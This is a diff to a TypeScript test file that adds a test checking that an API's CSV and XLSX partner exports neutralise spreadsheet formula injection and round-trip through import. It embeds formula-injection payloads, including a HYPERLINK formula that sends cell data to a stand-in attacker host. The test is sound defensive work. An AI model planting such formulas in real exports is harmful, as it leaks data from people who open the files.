@@ -2,6 +2,8 @@
  * Issue 10's reproductions, one test each, on both databases: a hostile request is
  * answered with a 4xx that names the limit, in bounded time, and writes nothing.
  */
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { describeEachDatabase } from '../test-support/databases.js';
 import {
@@ -86,6 +88,68 @@ describeEachDatabase('hostile input', (get) => {
     const { answer, slowest } = await healthWhile(putSpec(aliasFanOutSpec(), 'application/yaml'));
     expect(answer.statusCode).toBe(422);
     expect(slowest).toBeLessThan(200);
+  });
+
+  it('CSV export neutralises formula-leading cells; XLSX writes text cells; both import back', async () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const notes = ['+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1+1'];
+    for (const [i, note] of notes.entries()) {
+      const res = await api.as('editor', {
+        method: 'POST',
+        url: `/api/workspaces/${api.slug}/partners`,
+        payload: { id: `formula-${i}`, name, kind: 'enterprise', notes: note, cost: -5, return: 1 },
+      });
+      expect(res.statusCode).toBe(201);
+    }
+    const csv = await api.as('viewer', {
+      method: 'GET',
+      url: `/api/workspaces/${api.slug}/exports/partners.csv`,
+    });
+    const records = parse(csv.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    const ours = records.filter((r) => r.id?.startsWith('formula-'));
+    expect(ours).toHaveLength(notes.length);
+    for (const [i, record] of ours.entries()) {
+      expect(record.name).toBe(`'${name}`);
+      expect(record.notes).toBe(`'${notes[i]}`);
+      expect(record.cost).toBe('-5'); // a number stays a number
+    }
+    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+    for (const line of csv.body.split('\n')) expect(line).not.toMatch(/(^|,)[=+@]/);
+
+    const back = await api.as('editor', {
+      method: 'POST',
+      url: `/api/workspaces/${api.slug}/imports/partners/preview`,
+      headers: { 'content-type': 'text/csv' },
+      payload: csv.body,
+    });
+    const rows = back.json<{ rows: { partner: { id: string; name: string; notes: string } }[] }>()
+      .rows;
+    const again = rows.filter((r) => r.partner.id.startsWith('formula-'));
+    expect(again.map((r) => r.partner.name)).toEqual(notes.map(() => name));
+    expect(again.map((r) => r.partner.notes)).toEqual(notes);
+
+    const xlsx = await api.as('viewer', {
+      method: 'GET',
+      url: `/api/workspaces/${api.slug}/exports/partners.xlsx`,
+    });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0];
+    let checked = 0;
+    sheet?.eachRow((row) => {
+      row.eachCell((cell) => {
+        if (typeof cell.value === 'string' && cell.value.startsWith('=HYPERLINK')) {
+          expect(cell.type).toBe(ExcelJS.ValueType.String);
+          expect(cell.formula).toBeUndefined();
+          expect(cell.numFmt).toBe('@');
+          checked += 1;
+        }
+      });
+    });
+    expect(checked).toBe(notes.length);
   });
 
   it('a YAML alias fan-out is refused as too large, quickly, writing nothing', async () => {
